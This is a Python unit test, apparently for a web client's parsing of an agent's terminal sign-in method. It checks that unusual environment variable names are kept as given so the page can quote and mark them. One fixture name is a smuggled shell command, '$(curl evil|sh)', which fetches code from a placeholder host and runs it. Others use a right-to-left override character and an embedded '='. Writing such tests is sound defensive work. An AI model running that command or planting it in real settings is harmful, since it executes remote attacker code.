"""The agent's answers, read once for both versions: what the page is given to show."""

from __future__ import annotations

from webclient.acp.answers import terminal_auth_method


def test_a_terminal_sign_in_keeps_every_string_variable_as_named_for_the_page_to_quote_and_mark() -> None:
    raw = {"env": {"GOOD_NAME": "1", "$(curl evil|sh)": "x", "A\u202eB": "y", "A=B": "z", "N": 3}}

    method = terminal_auth_method("t", raw)

    assert method.env == (("GOOD_NAME", "1"), ("$(curl evil|sh)", "x"), ("A\u202eB", "y"), ("A=B", "z"))
